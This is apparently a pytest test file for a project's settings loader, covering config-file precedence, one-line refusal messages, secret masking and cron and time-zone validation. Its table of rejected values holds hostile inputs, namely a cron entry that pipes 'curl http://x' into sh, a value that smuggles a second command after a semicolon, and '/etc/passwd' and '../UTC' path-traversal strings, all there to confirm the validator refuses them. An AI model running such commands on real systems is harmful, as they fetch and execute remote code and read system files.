"""Settings: where they are read from, what is refused and how it is said, what stays secret."""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

import shared.config.sources
from shared.config.settings import load_settings, setting_meanings, setting_names
from shared.errors import SettingsError

Config = Callable[[str], Path]
HIDDEN = "correct-horse-battery"


@pytest.fixture(autouse=True)
def bare(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    """No setting comes from the machine that runs the tests."""
    for name in [*setting_names(), "HMEM_CONFIG"]:
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setattr(shared.config.sources, "DEFAULT_CONFIG", tmp_path / "default.toml")


@pytest.fixture
def config(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> Config:
    """Writes the file that HMEM_CONFIG names."""

    def write(text: str) -> Path:
        path = tmp_path / "hmem.toml"
        path.write_text(text, encoding="utf-8")
        monkeypatch.setenv("HMEM_CONFIG", str(path))
        return path

    return write


def refusal(**overrides: Any) -> str:
    with pytest.raises(SettingsError) as refused:
        load_settings(**overrides)
    assert refused.value.exit_code == 10
    text = str(refused.value)
    assert "\n" not in text
    assert "Value error" not in text
    assert text.endswith(".")
    return text


def test_the_default_file_is_read_where_it_exists_and_hmem_config_replaces_it(
    config: Config, monkeypatch: pytest.MonkeyPatch
) -> None:
    shared.config.sources.DEFAULT_CONFIG.write_text('MEMORY_TOKENS = 100\nCHAT_TIMEZONE = "Asia/Tokyo"')
    assert load_settings().memory_tokens == 100
    config("MEMORY_TOKENS = 200")
    settings = load_settings()
    assert (settings.memory_tokens, settings.chat_timezone) == (200, "UTC")
    monkeypatch.setenv("HMEM_CONFIG", "")
    assert load_settings().memory_tokens == 100


@pytest.mark.parametrize("line", ["MEMORY_TOKEN = 900", "memory_tokens = 900", "[MEMORY]\nTOKENS = 900"])
def test_an_unknown_name_in_the_file_is_refused_by_name(config: Config, line: str) -> None:
    path = config(f"MEMORY_SUMMARY = true\n{line}")
    text = refusal()
    assert str(path) in text
    assert f"unknown setting {line.split()[0].strip('[]')}." in text
    assert ("Did you mean MEMORY_TOKENS?" in text) is ("[" not in line)


@pytest.mark.parametrize(
    "content", [None, "a directory", b"MEMORY_TOKENS =", b'REDIS_URL = "\xff"', b"MEMORY_TOKENS = 1\nMEMORY_TOKENS = 2"]
)
def test_a_file_that_cannot_be_read_is_named(config: Config, content: bytes | str | None) -> None:
    path = config("")
    path.unlink()
    if isinstance(content, bytes):
        path.write_bytes(content)
    elif content:
        path.mkdir()
    missing = f"There is no settings file {path}. "
    assert refusal().startswith(missing if content is None else f"The settings file {path} cannot be read: ")


#: Those of a feature that was taken out are left out.
WRONG = {
    "MEMORY_TOKENS": ["many", "-1", "200001", "1.5"],
    "MEMORY_BACKEND": ["faiss", "sqlite,chroma"],
    "MEMORY_SUMMARY": ["perhaps"],
    "MEMORY_DEADLINE_MS": ["0"],
    "EMBEDDER": ["openai"],
    "TASK_TIMEOUT": ["0", "soon"],
    "MAX_CONCURRENT_TASKS": ["0", "65"],
    "RELEASES_KEPT": ["1"],
    "SESSION_TTL": ["0"],
    "LOG_LEVEL": ["loud"],
    "CHAT_TIMEZONE": ["Berlin", "Europe", "Europe/Berlinn", "/etc/passwd", "../UTC", "+01:00", "x" * 300],
    "REPORT_CHAT": ["ada", "9912,9913"],
    "REPORT_AT": ["8", "6:00", "24:00", "18:60", "18:00:00", "evening"],
    "HEARTBEAT_URL": ["hc-ping.com/x", "ftp://hc-ping.com/x"],
    "NIGHT_CRON": [
        "* * * * * curl http://x|sh #",
        "0 3 * * mon;x",
        "99 3 * * *",
        "\u0663 3 * * *",
        "0 3 * * 1-99999999999",
        "@daily",
        " ",
    ],
    "WEB_ORIGIN": ["memory.example.org"],
    "NIGHT_INDEXES": ["faiss", "chroma,faiss"],
    "ALLOWED_CHATS": ["ada"],
    "OWNERS": ["ada", "-5", "0", "7,1087968824", "136817688", "777000", "1" * 20],
}


@pytest.mark.parametrize(
    ("name", "value"), [(name, value) for name, values in WRONG.items() if name in setting_names() for value in values]
)
def test_a_wrong_value_is_one_line_that_names_the_setting(
    monkeypatch: pytest.MonkeyPatch, config: Config, name: str, value: str
) -> None:
    load_settings()
    monkeypatch.setenv(name, value)
    text = refusal()
    assert text.startswith(f"A setting is invalid. {name}: ")
    monkeypatch.delenv(name)
    config(f"{name} = {json.dumps(value)}")
    assert refusal() == text, "the file is read as strictly as the environment"


def test_every_wrong_setting_is_told_at_once(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("MEMORY_TOKENS", "many")
    monkeypatch.setenv("CHAT_TIMEZONE", "Berlin")
    text = refusal()
    assert "MEMORY_TOKENS: it must be a whole number; CHAT_TIMEZONE: " in text
    assert "'Berlin' is not a time zone; write one like Europe/Berlin" in text


@pytest.mark.parametrize("value", [f'["{HIDDEN}"]', f'{{key = "{HIDDEN}"}}'])
def test_a_wrong_secret_is_named_without_its_text(config: Config, value: str) -> None:
    config(f"RESULT_HMAC_KEY = {value}")
    text = refusal()
    assert "RESULT_HMAC_KEY: " in text
    assert HIDDEN not in text


def test_a_secret_is_masked_in_every_representation(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("RESULT_HMAC_KEY", HIDDEN)
    settings = load_settings()
    shown = [repr(settings), str(settings), f"{settings}", str(settings.model_dump()), settings.model_dump_json()]
    assert not [text for text in shown if HIDDEN in text]
    assert all("result_hmac_key" in text for text in shown)
    assert settings.result_hmac_key is not None
    assert settings.result_hmac_key.get_secret_value() == HIDDEN


def test_every_setting_has_one_name_in_capitals_and_a_description() -> None:
    assert len(set(setting_names())) == len(setting_names())
    assert {"REDIS_URL", "RESULT_HMAC_KEY", "HMEM_MEMORY_DIR", "CLAUDE_BIN"} <= set(setting_names())
    assert {name.lower() for name in setting_names()} == {
        name for name, meaning in setting_meanings().items() if meaning
    }


@pytest.mark.parametrize("written", ["5  4 * * *", "*/30 1-5 * * mon-fri", "0 3 * * 0,5-7"])
def test_a_time_of_the_night_is_any_that_cron_has(monkeypatch: pytest.MonkeyPatch, written: str) -> None:
    monkeypatch.setenv("NIGHT_CRON", written)
    assert load_settings().night_cron == " ".join(written.split())


@pytest.mark.parametrize("target", ["day:/data/memory", "hmem@10.0.0.2:/data/memory", "day:"])
def test_a_target_with_a_colon_before_its_first_slash_is_another_host(target: str) -> None:
    settings = load_settings(publish_target=target)
    assert settings.remote_target == target
    assert load_settings(publish_target="/mnt/a:b").remote_target is None


@pytest.mark.parametrize("written", ["'9912,-1001'", "[9912, -1001]", "['9912', '-1001']"])
def test_chats_may_be_written_as_text_or_list(config: Config, written: str) -> None:
    config(f"ALLOWED_CHATS = {written}")
    assert load_settings().allowed == {"9912", "-1001"}
    config("ALLOWED_CHATS = ['a friend']")
    assert "'a friend' is not a chat id" in refusal()
